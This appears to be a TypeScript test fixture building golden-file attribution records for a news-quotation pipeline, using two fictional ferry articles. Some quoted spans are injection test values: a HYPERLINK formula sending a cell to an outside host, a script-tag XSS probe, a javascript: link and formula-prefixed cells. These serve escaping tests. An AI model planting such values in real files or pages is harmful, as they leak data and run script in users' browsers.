/** Who says what in the story for golden files: every kind of attribution, and two utterances in two renderings each. */
import type { Hop, Made, OnrecordRecord, RecordTypes, Span } from '@onrecord/schema';
import { inFirst, inSecond } from './texts.ts';

/** The pipeline made everything here that a person did not. */
export const MADE: Made = { by: 'pipeline', stage: 'attribution', version: '1.0.0', confidence: 0.75 };

/** Mentions, attributions and utterances. */
export function said(): OnrecordRecord[] {
  return [...mentions(), ...attributionsOfFirst(), ...attributionsOfSecond(), ...utterances()];
}

const hop = (actorId: string | null, role: Hop['role'], span: Span | null = null): Hop => ({
  actorId,
  role,
  span,
});

type Attribution = RecordTypes['Attribution'];

type Said = Pick<Attribution, 'kind' | 'content' | 'speakerId'> & Partial<Attribution>;

function attribution(id: string, article: 1 | 2, outlet: string, rest: Said): Attribution {
  const [source = null] = rest.source ?? [];
  return {
    type: 'Attribution',
    id: `attribution:${id}`,
    articleId: `article:${article}`,
    source: [],
    cue: [],
    quoted: [],
    cueClass: 'say',
    stance: 'states',
    modality: 'asserted',
    because: null,
    coSpeakerIds: [],
    addresseeIds: [],
    chain: [
      hop(outlet, 'outlet'),
      hop(rest.speakerId, rest.speakerId === null ? 'unnamed' : 'speaker', source),
    ],
    chainBasis: 'stated',
    nestedIn: null,
    duplicateOf: null,
    unclosedQuote: false,
    utteranceId: null,
    made: MADE,
    ...rest,
  };
}

function attributionsOfFirst(): Attribution[] {
  const inGazette = (id: string, rest: Said) => attribution(id, 1, 'actor:gazette', rest);
  return [
    inGazette('11', {
      kind: 'direct',
      source: [inFirst('harbour master Tove Aasen')],
      cue: [inFirst('told')],
      content: [inFirst('“Cafe\u0301s stay open,”')],
      quoted: [inFirst('Cafe\u0301s stay open,')],
      speakerId: 'actor:aasen',
      addresseeIds: ['actor:radio'],
      chain: [
        hop('actor:gazette', 'outlet'),
        hop('actor:radio', 'relayer', inFirst('Radio Holm')),
        hop('actor:aasen', 'speaker', inFirst('harbour master Tove Aasen')),
      ],
      utteranceId: 'utterance:1',
    }),
    inGazette('12', {
      kind: 'mixed',
      source: [inFirst('She')],
      cue: [inFirst('said')],
      content: [
        inFirst('the ferry would be “back by <b>noon</b>, at the latest”'),
        inFirst('that tickets stay valid'),
      ],
      quoted: [inFirst('back by <b>noon</b>, at the latest')],
      speakerId: 'actor:aasen',
      stance: 'promises',
      modality: 'predicted',
      chainBasis: 'carried-over',
      utteranceId: 'utterance:2',
    }),
    inGazette('13', {
      kind: 'indirect',
      source: [inFirst('Holm & Lines <Ltd>')],
      cue: [inFirst('according to')],
      content: [inFirst('=HYPERLINK("https://fares.example/?a="&A1)')],
      speakerId: 'actor:company',
    }),
    inGazette('14', {
      kind: 'indirect',
      source: [inFirst('The company')],
      cue: [inFirst('denied')],
      content: [inFirst('that the ferry was unsafe')],
      stance: 'denies',
      modality: 'denied',
      speakerId: 'actor:company',
      made: { ...MADE, by: 'person', stage: 'annotation', confidence: 1 },
    }),
    inGazette('15', {
      kind: 'direct',
      source: [inFirst('One man on the quay')],
      cue: [inFirst('called')],
      content: [inFirst('“a <script>alert(1)</script> of a plan”')],
      quoted: [inFirst('a <script>alert(1)</script> of a plan')],
      cueClass: 'judge',
      speakerId: null,
      because: 'ambiguous',
    }),
    inGazette('16', {
      kind: 'indirect',
      source: [inFirst('Deputy mayor Ilja Brandt')],
      cue: [inFirst('declined to comment')],
      content: [],
      cueClass: 'refuse',
      stance: 'silent',
      speakerId: 'actor:brandt',
    }),
  ];
}

function attributionsOfSecond(): Attribution[] {
  const inLeaf = (id: string, rest: Said) => attribution(id, 2, 'actor:unknown', rest);
  return [
    inLeaf('21', {
      kind: 'mixed',
      source: [inSecond('Aasen')],
      cue: [inSecond('said')],
      content: [
        inSecond('The ferry will be “back by noon”'),
        inSecond('or בקרוב\u200b as\nthe islanders say'),
      ],
      quoted: [inSecond('back by noon')],
      speakerId: 'actor:aasen',
      stance: 'promises',
      modality: 'predicted',
      utteranceId: 'utterance:2',
    }),
    inLeaf('22', {
      kind: 'direct',
      source: [inSecond('the harbour master')],
      cue: [inSecond('said')],
      content: [inSecond('“Cafe\u0301s stay open,”')],
      quoted: [inSecond('Cafe\u0301s stay open,')],
      speakerId: 'actor:aasen',
      utteranceId: 'utterance:1',
    }),
    inLeaf('23', {
      kind: 'indirect',
      source: [inSecond('a leaflet, [see here](javascript:alert(1))')],
      cue: [inSecond('says')],
      content: [inSecond('@SUM(1+1)'), inSecond('-2 for children')],
      cueClass: 'write',
      speakerId: 'actor:leaflet',
      chain: [
        hop('actor:unknown', 'outlet'),
        hop('actor:leaflet', 'document', inSecond('a leaflet, [see here](javascript:alert(1))')),
      ],
    }),
  ];
}

function mentions(): OnrecordRecord[] {
  const mention = (
    id: string,
    article: 1 | 2,
    span: Span,
    actorId: string | null,
  ): RecordTypes['Mention'] => ({
    type: 'Mention',
    id: `mention:${id}`,
    articleId: `article:${article}`,
    span,
    form: actorId === null ? 'description' : 'name',
    actorId,
    coActorIds: [],
    because: actorId === null ? 'no-antecedent' : null,
    made: { ...MADE, stage: 'actor' },
  });
  return [
    mention('1', 1, inFirst('Tove Aasen'), 'actor:aasen'),
    mention('2', 1, inFirst('Holm & Lines <Ltd>'), 'actor:company'),
    mention('3', 2, inSecond('Aasen'), 'actor:aasen'),
    mention('4', 2, inSecond('the islanders'), null),
    mention('5', 1, inFirst('Skarvholm'), 'actor:skarvholm'),
  ];
}

function utterances(): OnrecordRecord[] {
  const byAasen = { type: 'Utterance', speakerId: 'actor:aasen', when: null, where: null } as const;
  return [
    {
      ...byAasen,
      id: 'utterance:1',
      renderings: ['attribution:11', 'attribution:22'],
      best: 'attribution:11',
      differences: [{ attributionIds: ['attribution:22'], kind: 'carrier-dropped' }],
    },
    {
      ...byAasen,
      id: 'utterance:2',
      when: {
        earliest: '2031-03-03',
        latest: '2031-03-03',
        precision: 'day',
        basis: [inFirst('on Monday')],
        how: 'resolved-from-publication',
      },
      renderings: ['attribution:12', 'attribution:21'],
      best: 'attribution:12',
      differences: [{ attributionIds: ['attribution:12', 'attribution:21'], kind: 'words-inside-marks' }],
    },
  ];
}
